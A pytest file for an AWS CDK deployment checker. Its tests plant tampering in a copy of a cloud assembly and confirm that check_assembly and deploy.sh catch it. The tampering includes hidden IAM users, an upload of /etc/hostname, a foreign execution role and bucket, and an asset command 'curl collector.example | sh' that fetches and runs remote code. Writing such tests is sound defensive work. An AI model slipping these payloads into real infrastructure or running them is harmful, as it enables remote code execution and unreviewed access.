"""What is deployed beside the templates is detected: by the tests, and again by deploy.sh."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

import check_assembly
from conftest import read
from reviewed import DIGEST, TOPICS, as_production, difference, review, reviewed_lines
from template import Json
from test_source_breaks import Edit, edited

MAIN = "PersonaAccess-production"
REAL = "sha256:" + "b" * 64
LIST = "pl-7ca54015"
BEFORE = '    cdk.Tags.of(app).add("application"'
# Module, the original text, and the text that somebody writes instead.
HIDDEN: dict[str, Edit] = {
    "a stack lies in a stage within": ("application", BEFORE,
        ('    inner = cdk.Stage(app, "Inner", env=place["env"])\n'
        f'    cdk.CfnResource(cdk.Stack(inner, "Hidden"), "X", type="AWS::IAM::User")\n{BEFORE}')),
    "a file of the machine is uploaded": ("application", BEFORE,
        ("    from aws_cdk import aws_s3_assets\n"
        f'    aws_s3_assets.Asset(weekly, "Upload", path="/etc/hostname")\n{BEFORE}')),
    "CloudFormation acts by another role": ("application",
        "generate_bootstrap_version_rule=False",
        ("generate_bootstrap_version_rule=False, cloud_formation_execution_role="
        '"arn:aws:iam::999999999999:role/x"')),
    "the template lies in another bucket": ("application",
        "generate_bootstrap_version_rule=False",
        'generate_bootstrap_version_rule=False, file_assets_bucket_name="foreign"'),
    "an output shows a setting": ("application", BEFORE,
        f'    cdk.CfnOutput(weekly, "Shown", value="{{{{resolve:ssm:x}}}}")\n{BEFORE}'),
    "an image of a deployment alone brings it along": ("application", BEFORE,
        ('    if "b" in image_digest:\n'
        f'        cdk.CfnResource(weekly, "X", type="AWS::IAM::User")\n{BEFORE}')),
}  # fmt: skip


def shown(folder: Path) -> list[str]:
    """List what the assembly of production has otherwise than reviewed."""
    now = review(folder, as_production("production", REAL, LIST))
    return [
        line
        for topic in sorted({"stacks", *TOPICS, *now})
        for line in difference(reviewed_lines(topic), now.get(topic, []), topic)
    ]


@pytest.mark.parametrize("name", HIDDEN)
def test_what_an_edit_hides_is_not_deployed(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with edited(HIDDEN[name]) as application:
        application.make_app("production", REAL, str(tmp_path)).synth()
    found = shown(tmp_path)
    assert found
    assert check_assembly.main("production", str(tmp_path), REAL, LIST) == 1
    said = capsys.readouterr().err
    assert said.startswith("What would be deployed is not as reviewed.")
    assert all(line in said for line in found)


def replace_address(folder: Path) -> None:
    """Let a stack be deployed from another template than the one beside it."""
    manifest = read(folder / "manifest.json")
    properties = manifest["artifacts"][MAIN]["properties"]
    properties["stackTemplateAssetObjectUrl"] = "s3://foreign/" + "0" * 64 + ".json"
    (folder / "manifest.json").write_text(json.dumps(manifest))


def change_assets(change: Callable[[Json], None]) -> Callable[[Path], None]:
    def change_it(folder: Path) -> None:
        file = folder / f"{MAIN}.assets.json"
        assets = read(file)
        change(assets)
        file.write_text(json.dumps(assets))

    return change_it


def replace_file(assets: Json) -> None:
    (asset,) = assets["files"].values()
    asset["source"]["path"] = "other.json"


def run_on_upload(assets: Json) -> None:
    (asset,) = assets["files"].values()
    asset["source"] = {"executable": ["sh", "-c", "curl collector.example | sh"]}


def build_on_upload(assets: Json) -> None:
    assets["dockerImages"]["x"] = {"source": {"directory": "."}, "destinations": {}}


@pytest.mark.parametrize(
    "change",
    [
        replace_address,
        change_assets(replace_file),
        change_assets(run_on_upload),
        change_assets(build_on_upload),
    ],
    ids=["another address", "another file", "a command", "an image"],
)
def test_what_is_changed_beside_the_templates_is_shown(
    change: Callable[[Path], None], synthesised: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "assembly"
    shutil.copytree(synthesised, folder)
    assert check_assembly.main("production", str(folder), DIGEST, LIST) == 0
    change(folder)
    assert check_assembly.main("production", str(folder), DIGEST, LIST) == 1


def test_another_region_has_another_list_of_addresses(synthesised: Path, tmp_path: Path) -> None:
    folder = tmp_path / "assembly"
    shutil.copytree(synthesised, folder)
    file = folder / f"{MAIN}.template.json"
    file.write_text(file.read_text("utf-8").replace(LIST, "pl-11111111"))
    manifest = (folder / "manifest.json").read_text("utf-8")
    assert LIST not in manifest
    # By the hash of its text, the template is another one; a real one would have been uploaded so.
    for name in ("manifest.json", f"{MAIN}.assets.json"):
        text = (folder / name).read_text("utf-8")
        (folder / name).write_text(text.replace(_hash(synthesised), _hash(folder)))
    assert check_assembly.main("production", str(folder), DIGEST, "pl-11111111") == 0
    assert check_assembly.main("production", str(folder), DIGEST, LIST) == 1


def _hash(folder: Path) -> str:
    return hashlib.sha256((folder / f"{MAIN}.template.json").read_bytes()).hexdigest()


def test_a_deployment_takes_what_was_compared() -> None:
    script = Path(check_assembly.__file__).parents[1].joinpath("deploy.sh").read_text("utf-8")
    _, _, after = script.partition('synth --quiet --output "$assembly"')
    assert 0 < after.index('check_assembly.py "$stage" "$assembly"') < after.index("deploy --all")
    assert after.rstrip().endswith('--app "$assembly"')
    assert script.splitlines()[2] == "set -euo pipefail"
